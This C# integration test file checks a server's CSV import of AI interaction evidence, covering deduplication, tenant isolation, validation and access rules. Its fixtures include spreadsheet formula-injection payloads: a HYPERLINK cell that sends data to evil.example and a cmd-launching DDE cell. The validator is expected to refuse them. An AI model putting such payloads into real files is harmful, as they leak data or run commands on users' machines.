using System.Globalization;
using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Security.Cryptography;
using System.Text;
using System.Text.Json;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Pilotage.Server.Storage;
using Pilotage.Testing;

namespace Pilotage.Server.Tests.Import;

public sealed class ImportApiTests(ImportApiTests.Fixture fixture) : IClassFixture<ImportApiTests.Fixture>
{
    private const string Header = "prompt,answer,outcome,final_text,review_seconds,rating,category,timestamp,user";

    // Five reviewed rows (3 accepted, 1 edited, 1 rejected), one not reviewed, three ratings (5, 4, 3).
    private const string ValidFile =
        Header + "\r\n" +
        "Where is parcel 1?,It left on Monday.,accepted,,30,5,normal,2026-03-02T09:00:00Z,dana@example.org\r\n" +
        "Where is parcel 2?,It left on Tuesday.,accepted,,40,,normal,2026-03-02T09:10:00Z,dana@example.org\r\n" +
        "\"Refund, please?\",\"Yes, within 30 days.\",edited,\"Yes, within 14 days.\",90,4,edge,2026-03-02T10:00:00+01:00,sam@example.org\r\n" +
        "Card number?,I updated your card.,rejected,,60,,policy_boundary,2026-03-03,\r\n" +
        "\"Say \"\"hi\"\"\",\"Hi!\nHow can I help?\",accepted,,20,3,unclear,2026-03-03T12:00:00Z,\r\n" +
        "Opening hours?,9 to 5.,,,,,,2026-03-04T08:00:00Z,dana@example.org\r\n";

    [Fact]
    public async Task A_valid_file_imports_every_row_and_the_metrics_show_it_and_a_reimport_changes_nothing()
    {
        var slug = await fixture.SystemAsync("import-valid", "owner@example.org");
        var bytes = Encoding.UTF8.GetBytes(ValidFile);
        var audit = await AuditCountAsync();

        var response = await PostAsync(fixture.Owner, slug, bytes);
        var body = await response.Content.ReadAsStringAsync();
        Assert.True(response.StatusCode == HttpStatusCode.OK, body);
        using (var result = JsonDocument.Parse(body))
        {
            var root = result.RootElement;
            Assert.Equal(slug, root.GetProperty("system").GetString());
            Assert.Equal(6, root.GetProperty("rows").GetInt32());
            Assert.Equal(6, root.GetProperty("imported").GetInt32());
            Assert.Equal(0, root.GetProperty("alreadyPresent").GetInt32());
            Assert.Equal(Convert.ToHexStringLower(SHA256.HashData(bytes)), root.GetProperty("fileSha256").GetString());
        }
        Assert.Equal(audit + 1, await AuditCountAsync());

        var metrics = await MetricsAsync(slug);
        var acceptance = metrics.GetProperty("acceptance_rate");
        Assert.Equal(5, acceptance.GetProperty("n").GetInt64());
        Assert.Equal(0.6, acceptance.GetProperty("value").GetDouble(), 10);
        Assert.Equal(1, metrics.GetProperty("edit_rate").GetProperty("n").GetInt64() * metrics.GetProperty("edit_rate").GetProperty("value").GetDouble(), 10);
        Assert.Equal(0.2, metrics.GetProperty("rejection_rate").GetProperty("value").GetDouble(), 10);
        var feedback = metrics.GetProperty("feedback_mean");
        Assert.Equal(3, feedback.GetProperty("n").GetInt64());
        Assert.Equal(4.0, feedback.GetProperty("value").GetDouble(), 10);
        Assert.Equal(6, metrics.GetProperty("samples").GetProperty("value").GetDouble());
        // 240 s of review over 5 reviewed rows.
        Assert.Equal(0.8, metrics.GetProperty("review_minutes_per_task").GetProperty("value").GetDouble(), 10);
        // "Yes, within 30 days." → "Yes, within 14 days.": 2 of 20 characters.
        Assert.Equal(0.1, metrics.GetProperty("rework").GetProperty("value").GetDouble(), 10);
        // Imported rows carry no latency: the gateway's latency figures are not diluted.
        Assert.Equal(0, metrics.GetProperty("latency_p50").GetProperty("n").GetInt64());

        await using (var db = fixture.Db())
        {
            var rows = (await db.Interactions.AsNoTracking().Where(i => i.System == slug).ToListAsync()).OrderBy(i => i.CreatedAt).ToList();
            Assert.Equal(6, rows.Count);
            Assert.All(rows, r =>
            {
                // int_, the row's time (12 hex characters of milliseconds since 1970) and 24 of hash: ordered by time like the gateway's ids.
                Assert.Matches("^int_[0-9a-f]{36}$", r.Id);
                Assert.Equal(r.CreatedAt.ToUnixTimeMilliseconds().ToString("x12", CultureInfo.InvariantCulture), r.Id[4..16]);
                Assert.Equal(("chat", "import", "served", "proposed"), (r.Endpoint, r.Mode, r.Outcome, r.Phase));
                Assert.Equal(Convert.ToHexStringLower(SHA256.HashData(Encoding.UTF8.GetBytes(r.RequestContent!))), r.RequestHash);
            });
            var dana = await db.Users.AsNoTracking().SingleAsync(u => u.Email == "dana@example.org");
            var first = rows[0];
            Assert.Equal(new DateTimeOffset(2026, 3, 2, 9, 0, 0, TimeSpan.Zero), first.CreatedAt);
            Assert.Equal((dana.Id, "dana@example.org"), (first.UserId, first.UserEmail));
            Assert.Equal("normal", first.Category);
            Assert.Equal("Where is parcel 1?", first.RequestContent);
            var refund = rows.Single(r => r.RequestContent == "Refund, please?");
            Assert.Equal(new DateTimeOffset(2026, 3, 2, 9, 0, 0, TimeSpan.Zero), refund.CreatedAt);
            Assert.Equal((0L, "sam@example.org"), (refund.UserId, refund.UserEmail)); // not a user of Pilotage
            var review = await db.Reviews.AsNoTracking().SingleAsync(r => r.InteractionId == refund.Id);
            Assert.Equal(("edited", "import", "sam@example.org", 90.0), (review.Outcome, review.Source, review.Reviewer, review.Seconds));
            Assert.Equal(0.1, review.Rework!.Value, 10);
            var card = rows.Single(x => x.RequestContent == "Card number?").Id;
            Assert.Equal("import", (await db.Reviews.AsNoTracking().SingleAsync(r => r.InteractionId == card)).Reviewer);
            Assert.Equal(5, await db.Reviews.CountAsync(r => r.System == slug));
            var feedback5 = await db.Feedback.AsNoTracking().SingleAsync(f => f.InteractionId == first.Id);
            Assert.Equal((5, dana.Id), (feedback5.Rating, feedback5.UserId));
            Assert.Equal(3, await db.Feedback.CountAsync(f => f.System == slug));
            var entry = await db.AuditEntries.AsNoTracking().OrderByDescending(e => e.Sequence).FirstAsync(e => e.Subject == $"system:{slug}");
            Assert.Equal(("evidence.imported", "owner@example.org"), (entry.Action, entry.Actor));
            Assert.Contains("\"imported\":6", entry.After, StringComparison.Ordinal);
        }

        // The same file again — even re-encoded with a BOM and LF line ends — is already there.
        var again = await PostAsync(fixture.Owner, slug, [0xEF, 0xBB, 0xBF, .. Encoding.UTF8.GetBytes(ValidFile.Replace("\r\n", "\n", StringComparison.Ordinal))]);
        var againBody = await again.Content.ReadFromJsonAsync<JsonElement>();
        Assert.Equal(HttpStatusCode.OK, again.StatusCode);
        Assert.Equal(0, againBody.GetProperty("imported").GetInt32());
        Assert.Equal(6, againBody.GetProperty("alreadyPresent").GetInt32());
        Assert.Equal(Strip(metrics), Strip(await MetricsAsync(slug)));
        await using (var db = fixture.Db())
        {
            Assert.Equal(6, await db.Interactions.CountAsync(i => i.System == slug));
        }
    }

    [Fact]
    public async Task A_file_that_adds_rows_to_an_earlier_one_imports_only_the_new_rows()
    {
        var slug = await fixture.SystemAsync("import-grow", "owner@example.org");
        var firstTwo = Header + "\n" + string.Join("\n", ValidFile.Split("\r\n").Skip(1).Take(2)) + "\n";
        var first = await (await PostAsync(fixture.Owner, slug, Encoding.UTF8.GetBytes(firstTwo))).Content.ReadFromJsonAsync<JsonElement>();
        Assert.Equal(2, first.GetProperty("imported").GetInt32());
        var all = await (await PostAsync(fixture.Admin, slug, Encoding.UTF8.GetBytes(ValidFile))).Content.ReadFromJsonAsync<JsonElement>();
        Assert.Equal((4, 2), (all.GetProperty("imported").GetInt32(), all.GetProperty("alreadyPresent").GetInt32()));
        var acceptance = (await MetricsAsync(slug)).GetProperty("acceptance_rate");
        Assert.Equal((5L, 0.6), (acceptance.GetProperty("n").GetInt64(), Math.Round(acceptance.GetProperty("value").GetDouble(), 10)));
    }

    [Fact]
    public async Task A_hostile_file_copying_another_systems_rows_and_times_records_its_own_rows_and_leaves_theirs_alone()
    {
        var victim = await fixture.SystemAsync("import-victim", "owner@example.org");
        var hostile = await fixture.SystemAsync("import-hostile", "other-owner@example.org");
        Assert.Equal(HttpStatusCode.OK, (await PostAsync(fixture.Owner, victim, Encoding.UTF8.GetBytes(ValidFile))).StatusCode);
        // A gateway interaction of the victim in the very millisecond a hostile row claims.
        var at = new DateTimeOffset(2026, 3, 5, 9, 0, 0, TimeSpan.Zero);
        var gatewayId = Pilotage.Server.Evidence.InteractionId.New(new FixedTime(at));
        await using (var db = fixture.Db())
        {
            db.Interactions.Add(new InteractionRow
            {
                Id = gatewayId, CreatedAt = at, System = victim, Phase = "pilot", UserEmail = "dana@example.org", KeyId = "key_1", Groups = "[]",
                Endpoint = "chat", Mode = "full", Outcome = "served", RequestContent = "gateway prompt", ResponseContent = "gateway answer",
            });
            await db.SaveChangesAsync();
        }
        List<(string Id, string System, string? Prompt)> Snapshot(PilotageDbContext db) =>
            [.. db.Interactions.AsNoTracking().Where(i => i.System == victim).Select(i => new { i.Id, i.System, i.RequestContent }).AsEnumerable()
                .Select(i => (i.Id, i.System, i.RequestContent)).OrderBy(i => i.Id, StringComparer.Ordinal)];
        List<(string Id, string System, string? Prompt)> before;
        await using (var db = fixture.Db()) before = Snapshot(db);

        // The victim's file, row for row, plus a row at the gateway interaction's time.
        var copy = ValidFile + "gateway prompt,gateway answer,accepted,,1,1,normal,2026-03-05T09:00:00.000Z,dana@example.org\r\n";
        var response = await PostAsync(fixture.OtherOwner, hostile, Encoding.UTF8.GetBytes(copy));
        var body = await response.Content.ReadFromJsonAsync<JsonElement>();
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal((7, 0), (body.GetProperty("imported").GetInt32(), body.GetProperty("alreadyPresent").GetInt32()));

        await using (var db = fixture.Db())
        {
            Assert.Equal(before, Snapshot(db));
            Assert.Equal(5, await db.Reviews.CountAsync(r => r.System == victim));
            var copied = (await db.Interactions.AsNoTracking().Where(i => i.System == hostile).ToListAsync()).Single(i => i.CreatedAt == at);
            Assert.NotEqual(gatewayId, copied.Id);
            Assert.Equal(gatewayId[..16], copied.Id[..16]); // the same millisecond: a neighbour, never the same row
            Assert.Empty(before.Select(b => b.Id).Intersect(await db.Interactions.Where(i => i.System == hostile).Select(i => i.Id).ToListAsync()));
        }
    }

    private sealed class FixedTime(DateTimeOffset now) : TimeProvider
    {
        public override DateTimeOffset GetUtcNow() => now;
    }

    [Fact]
    public async Task With_hashes_only_retention_the_content_is_not_stored_but_its_hashes_are()
    {
        var slug = await fixture.SystemAsync("import-hashes", "owner@example.org", "  evidence:\n    content: hashes\n");
        Assert.Equal(HttpStatusCode.OK, (await PostAsync(fixture.Owner, slug, Encoding.UTF8.GetBytes("prompt,answer,timestamp\nsecret prompt,secret answer,2026-03-01\n"))).StatusCode);
        await using var db = fixture.Db();
        var row = await db.Interactions.AsNoTracking().SingleAsync(i => i.System == slug);
        Assert.Null(row.RequestContent);
        Assert.Null(row.ResponseContent);
        Assert.Equal(Convert.ToHexStringLower(SHA256.HashData("secret prompt"u8)), row.RequestHash);
        Assert.Equal(Convert.ToHexStringLower(SHA256.HashData("secret answer"u8)), row.ResponseHash);
    }

    public static TheoryData<string, string, int, string?, string> ErrorFiles() => new()
    {
        { "bad date", "prompt,answer,timestamp,outcome\np,a,2026-03-01,accepted\np,a,01/03/2026,accepted\n", 3, "timestamp", "not an ISO 8601" },
        { "unknown outcome", "prompt,answer,timestamp,outcome\np,a,2026-03-01,accepted\np,a,2026-03-01,aproved\n", 3, "outcome", "unknown outcome 'aproved'" },
        { "missing column", "prompt,outcome,timestamp\np,accepted,2026-03-01\n", 1, "answer", "required column 'answer' is missing" },
        { "ragged row", "prompt,answer,timestamp,outcome\np,a,2026-03-01,accepted\np,a,2026-03-01\n", 3, null, "expected 4 fields (as in the header), found 3" },
        { "edited without final text", "prompt,answer,timestamp,outcome,final_text\np,a,2026-03-01,accepted,\np,a,2026-03-01,edited,\n", 3, "final_text", "'edited'" },
        { "invalid utf-8", "prompt,answer,timestamp\np,caf\u00e9,2026-03-01\n", 2, null, "not valid UTF-8" },
    };

    // With ?atomic=true a file with any refused row is refused whole (the default imports its good rows: below).
    [Theory]
    [MemberData(nameof(ErrorFiles))]
    public async Task An_atomic_import_of_an_invalid_file_is_422_with_row_and_column_and_nothing_is_imported(string name, string csv, int row, string? column, string message)
    {
        var slug = await fixture.SystemAsync("import-error-" + name.Replace(' ', '-').Replace("-8", "8", StringComparison.Ordinal), "owner@example.org");
        var bytes = Encoding.UTF8.GetBytes(csv);
        if (name == "invalid utf-8") bytes = Encoding.Latin1.GetBytes(csv);
        var metrics = await MetricsAsync(slug);
        var audit = await AuditCountAsync();

        var response = await PostAsync(fixture.Owner, slug, bytes, atomic: true);
        var body = await response.Content.ReadAsStringAsync();
        Assert.True(response.StatusCode == HttpStatusCode.UnprocessableEntity, $"{name}: {(int)response.StatusCode} {body}");
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        using var problem = JsonDocument.Parse(body);
        Assert.Contains("nothing was imported", problem.RootElement.GetProperty("detail").GetString(), StringComparison.Ordinal);
        var error = Assert.Single(problem.RootElement.GetProperty("errors").EnumerateArray());
        Assert.Equal(row, error.GetProperty("row").GetInt32());
        Assert.Equal(column, error.GetProperty("column").GetString());
        Assert.Contains(message, error.GetProperty("message").GetString(), StringComparison.Ordinal);

        Assert.Equal(Strip(metrics), Strip(await MetricsAsync(slug)));
        Assert.Equal(audit, await AuditCountAsync());
        await using var db = fixture.Db();
        Assert.Equal(0, await db.Interactions.CountAsync(i => i.System == slug));
    }

    [Fact]
    public async Task Bad_rows_are_refused_by_row_with_their_reason_while_the_good_rows_land_and_a_fixed_file_adds_only_them()
    {
        var slug = await fixture.SystemAsync("import-partial", "owner@example.org", """
              dataBoundary:
                block: [credit_card]
            """);
        var huge = new string('x', Core.Import.EvidenceCsv.MaxFieldChars + 1);
        string[] good =
        [
            "Where is parcel 1?,It left on Monday.,2026-03-02T09:00:00Z,accepted",
            "Where is parcel 2?,It left on Tuesday.,2026-03-02T09:10:00Z,rejected",
            "Opening hours?,9 to 5.,2026-03-04T08:00:00Z,",
        ];
        // Line 3: a formula cell; 5: a field over the limit; 6: a column short; 7: not UTF-8; 9: a card number the boundary blocks.
        string[] bad =
        [
            "\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"help\"\")\",Click it.,2026-03-02T09:05:00Z,accepted",
            "Long one,\"" + huge + "\",2026-03-02T09:20:00Z,accepted",
            "Short row,2026-03-02T09:30:00Z,accepted",
            "Caf\u00e9 order?,Ready.,2026-03-02T09:40:00Z,accepted",
            "charge 4111 1111 1111 1111,Charged.,2026-03-02T09:50:00Z,accepted",
        ];
        string[] fixedRows =
        [
            "'=HYPERLINK(help),Click it.,2026-03-02T09:05:00Z,accepted",
            "Long one,Shorter.,2026-03-02T09:20:00Z,accepted",
            "Short row,Now complete.,2026-03-02T09:30:00Z,accepted",
            "Caf\u00e9 order?,Ready.,2026-03-02T09:40:00Z,accepted",
            "charge the card on file,Charged.,2026-03-02T09:50:00Z,accepted",
        ];
        byte[] File(string[] rows, bool latin1Line7)
        {
            var bytes = new List<byte>(Encoding.UTF8.GetBytes("prompt,answer,timestamp,outcome\n"));
            foreach (var r in rows) bytes.AddRange((latin1Line7 && r.StartsWith("Caf", StringComparison.Ordinal) ? Encoding.Latin1 : Encoding.UTF8).GetBytes(r + "\n"));
            return [.. bytes];
        }
        var first = File([good[0], bad[0], good[1], bad[1], bad[2], bad[3], good[2], bad[4]], latin1Line7: true);
        var audit = await AuditCountAsync();

        var response = await PostAsync(fixture.Owner, slug, first);
        var body = await response.Content.ReadAsStringAsync();
        Assert.True(response.StatusCode == HttpStatusCode.OK, body);
        using (var result = JsonDocument.Parse(body))
        {
            var root = result.RootElement;
            Assert.Equal((8, 3, 0, 5), (root.GetProperty("rows").GetInt32(), root.GetProperty("imported").GetInt32(), root.GetProperty("alreadyPresent").GetInt32(), root.GetProperty("rejected").GetInt32()));
            var errors = root.GetProperty("errors").EnumerateArray().Select(e => (e.GetProperty("row").GetInt32(), e.GetProperty("column").GetString(), e.GetProperty("message").GetString()!)).ToList();
            Assert.Equal([(3, "prompt"), (5, "answer"), (6, null), (7, null), (9, "prompt")], errors.Select(e => (e.Item1, e.Item2)));
            Assert.Contains("runs as a formula", errors[0].Item3, StringComparison.Ordinal);
            Assert.Contains("at most 1,048,576", errors[1].Item3, StringComparison.Ordinal);
            Assert.Contains("expected 4 fields (as in the header), found 3", errors[2].Item3, StringComparison.Ordinal);
            Assert.Contains("not valid UTF-8 (byte 4 of line 7)", errors[3].Item3, StringComparison.Ordinal);
            Assert.Contains("credit_card", errors[4].Item3, StringComparison.Ordinal);
            // The blocked value is named by its detector, never echoed.
            Assert.DoesNotContain("4111", body, StringComparison.Ordinal);
        }
        Assert.Equal(audit + 1, await AuditCountAsync());
        await using (var db = fixture.Db())
        {
            var stored = await db.Interactions.AsNoTracking().Where(i => i.System == slug).Select(i => i.RequestContent).ToListAsync();
            Assert.Equal(["Opening hours?", "Where is parcel 1?", "Where is parcel 2?"], stored.Order(StringComparer.Ordinal));
            Assert.Equal(2, await db.Reviews.CountAsync(r => r.System == slug));
        }
        var samples = (await MetricsAsync(slug)).GetProperty("samples").GetProperty("value").GetDouble();
        Assert.Equal(3, samples);

        // The same file, refused rows fixed: only they are recorded; the good rows are already there.
        var again = await PostAsync(fixture.Owner, slug, File([good[0], fixedRows[0], good[1], fixedRows[1], fixedRows[2], fixedRows[3], good[2], fixedRows[4]], latin1Line7: false));
        var againBody = await again.Content.ReadAsStringAsync();
        Assert.True(again.StatusCode == HttpStatusCode.OK, againBody);
        using (var result = JsonDocument.Parse(againBody))
        {
            var root = result.RootElement;
            Assert.Equal((8, 5, 3, 0), (root.GetProperty("rows").GetInt32(), root.GetProperty("imported").GetInt32(), root.GetProperty("alreadyPresent").GetInt32(), root.GetProperty("rejected").GetInt32()));
            Assert.Empty(root.GetProperty("errors").EnumerateArray());
        }
        await using (var db = fixture.Db())
        {
            Assert.Equal(8, await db.Interactions.CountAsync(i => i.System == slug));
            Assert.Equal(7, await db.Reviews.CountAsync(r => r.System == slug));
        }
        var metrics = await MetricsAsync(slug);
        Assert.Equal(8, metrics.GetProperty("samples").GetProperty("value").GetDouble());
        Assert.Equal(7, metrics.GetProperty("acceptance_rate").GetProperty("n").GetInt64());
    }

    [Fact]
    public async Task A_file_whose_every_row_is_refused_is_422_and_nothing_is_imported()
    {
        var slug = await fixture.SystemAsync("import-all-bad", "owner@example.org");
        var audit = await AuditCountAsync();
        var response = await PostAsync(fixture.Owner, slug, Encoding.UTF8.GetBytes("prompt,answer,timestamp\n@SUM(1+1),a,2026-03-01\np,+cmd|' /C calc'!A0,2026-03-01\n"));
        var body = await response.Content.ReadAsStringAsync();
        Assert.True(response.StatusCode == HttpStatusCode.UnprocessableEntity, body);
        using var problem = JsonDocument.Parse(body);
        Assert.Contains("all 2 row(s) were refused; nothing was imported", problem.RootElement.GetProperty("detail").GetString(), StringComparison.Ordinal);
        Assert.Equal([(2, "prompt"), (3, "answer")], problem.RootElement.GetProperty("errors").EnumerateArray().Select(e => (e.GetProperty("row").GetInt32(), e.GetProperty("column").GetString())));
        Assert.Equal(audit, await AuditCountAsync());
        await using var db = fixture.Db();
        Assert.Equal(0, await db.Interactions.CountAsync(i => i.System == slug));
    }

    [Fact]
    public async Task A_50_mb_file_is_refused_with_a_clear_message_and_nothing_is_imported()
    {
        var slug = await fixture.SystemAsync("import-huge", "owner@example.org");
        var row = Encoding.UTF8.GetBytes("a prompt that is repeated,an answer that is repeated,accepted,,10,4,normal,2026-03-01T10:00:00Z,dana@example.org\n");
        var bytes = new byte[50 * 1024 * 1024];
        var header = Encoding.UTF8.GetBytes(Header + "\n");
        header.CopyTo(bytes, 0);
        for (var at = header.Length; at < bytes.Length; at += row.Length) row.AsSpan(0, Math.Min(row.Length, bytes.Length - at)).CopyTo(bytes.AsSpan(at));
        var audit = await AuditCountAsync();

        var response = await PostAsync(fixture.Owner, slug, bytes);
        var body = await response.Content.ReadAsStringAsync();
        Assert.True(response.StatusCode is HttpStatusCode.RequestEntityTooLarge, $"{(int)response.StatusCode} {body}");
        Assert.Contains("file is 50.0 MB; split it into files of at most 25 MB", body, StringComparison.Ordinal);

        // Between the file limit (25 MB) and the request limit (26 MB): the file-size error of the validator.
        var justOver = bytes.AsSpan(0, (int)Core.Import.EvidenceCsv.MaxFileBytes + 1000).ToArray();
        var over = await PostAsync(fixture.Owner, slug, justOver);
        var overBody = await over.Content.ReadAsStringAsync();
        Assert.True(over.StatusCode == HttpStatusCode.UnprocessableEntity, $"{(int)over.StatusCode} {overBody}");
        Assert.Contains("split it into files of at most 25 MB", overBody, StringComparison.Ordinal);

        Assert.Equal(audit, await AuditCountAsync());
        await using var db = fixture.Db();
        Assert.Equal(0, await db.Interactions.CountAsync(i => i.System == slug));
    }

    [Fact]
    public async Task A_member_or_another_owner_is_refused_and_an_unknown_system_is_404()
    {
        var slug = await fixture.SystemAsync("import-owned", "owner@example.org");
        var bytes = Encoding.UTF8.GetBytes("prompt,answer,timestamp\np,a,2026-03-01\n");

        var member = await PostAsync(fixture.Member, slug, bytes);
        Assert.Equal(HttpStatusCode.Forbidden, member.StatusCode);
        // Another owner's system does not exist for them.
        var other = await PostAsync(fixture.OtherOwner, slug, bytes);
        Assert.Equal(HttpStatusCode.NotFound, other.StatusCode);
        Assert.DoesNotContain("owner@example.org", await other.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.NotFound, (await PostAsync(fixture.Owner, "no-such-system", bytes)).StatusCode);
        await using (var db = fixture.Db())
        {
            Assert.Equal(0, await db.Interactions.CountAsync(i => i.System == slug));
        }
        Assert.Equal(HttpStatusCode.OK, (await PostAsync(fixture.Owner, slug, bytes)).StatusCode);
    }

    [Fact]
    public async Task A_multipart_upload_is_refused_with_how_to_send_the_file()
    {
        var slug = await fixture.SystemAsync("import-multipart", "owner@example.org");
        using var form = new MultipartFormDataContent { { new ByteArrayContent("prompt,answer,timestamp\n"u8.ToArray()), "file", "evidence.csv" } };
        var response = await fixture.Owner.PostAsync($"/api/v1/systems/{slug}/import", form);
        var body = await response.Content.ReadAsStringAsync();
        Assert.True(response.StatusCode == HttpStatusCode.UnsupportedMediaType, body);
        Assert.True(body.Contains("--data-binary", StringComparison.Ordinal), body);
    }

    [Fact]
    public async Task Curls_default_content_type_for_data_binary_is_accepted()
    {
        var slug = await fixture.SystemAsync("import-curl", "owner@example.org");
        using var content = new ByteArrayContent("prompt,answer,timestamp\np,a,2026-03-01\n"u8.ToArray());
        content.Headers.ContentType = new MediaTypeHeaderValue("application/x-www-form-urlencoded");
        var response = await fixture.Owner.PostAsync($"/api/v1/systems/{slug}/import", content);
        Assert.True(response.StatusCode == HttpStatusCode.OK, await response.Content.ReadAsStringAsync());
    }

    private static async Task<HttpResponseMessage> PostAsync(HttpClient client, string slug, byte[] bytes, bool atomic = false)
    {
        var content = new ByteArrayContent(bytes);
        content.Headers.ContentType = new MediaTypeHeaderValue("text/csv");
        using var request = new HttpRequestMessage(HttpMethod.Post, $"/api/v1/systems/{slug}/import{(atomic ? "?atomic=true" : "")}") { Content = content };
        // Lets the server refuse an oversized file before it is sent.
        request.Headers.ExpectContinue = bytes.Length > 1024 * 1024;
        return await client.SendAsync(request);
    }

    private async Task<JsonElement> MetricsAsync(string slug) =>
        (await fixture.Server.Admin.GetFromJsonAsync<JsonElement>($"/api/v1/systems/{slug}/metrics")).GetProperty("metrics");

    /// <summary>The figures without anything that moves with the clock.</summary>
    private static string Strip(JsonElement metrics) =>
        string.Join(";", metrics.EnumerateObject().Where(p => !p.Name.StartsWith("review_backlog", StringComparison.Ordinal)).Select(p => $"{p.Name}={p.Value}"));

    private async Task<long> AuditCountAsync() =>
        (await fixture.Server.Admin.GetFromJsonAsync<JsonElement>("/api/v1/audit/verify")).GetProperty("entries").GetInt64();

    public sealed class Fixture : IAsyncLifetime
    {
        public PilotageTestServer Server { get; private set; } = null!;
        public HttpClient Admin => Server.Admin;
        public HttpClient Owner { get; private set; } = null!;
        public HttpClient OtherOwner { get; private set; } = null!;
        public HttpClient Member { get; private set; } = null!;

        public async Task InitializeAsync()
        {
            Server = await PilotageTestServer.StartAsync();
            Owner = Server.ClientFor(await Server.CreateUserWithKeyAsync("owner@example.org", "owner"));
            OtherOwner = Server.ClientFor(await Server.CreateUserWithKeyAsync("other-owner@example.org", "owner"));
            Member = Server.ClientFor(await Server.CreateUserWithKeyAsync("member@example.org", "member"));
            await Server.CreateUserWithKeyAsync("dana@example.org", "member");
        }

        public PilotageDbContext Db() => Server.App.Services.GetRequiredService<PilotageStore>().CreateDbContext();

        public async Task<string> SystemAsync(string slug, string owner, string extra = "")
        {
            await Server.ApplyAsync($"""
                apiVersion: pilotage/v1
                kind: AiSystem
                metadata:
                  name: {slug}
                spec:
                  owner: {owner}
                  purpose: Import test system
                  risk: low
                  upstream:
                    baseUrl: http://127.0.0.1:9/v1
                    model: test-model

                """ + extra);
            return slug;
        }

        public async Task DisposeAsync() => await Server.DisposeAsync();
    }
}
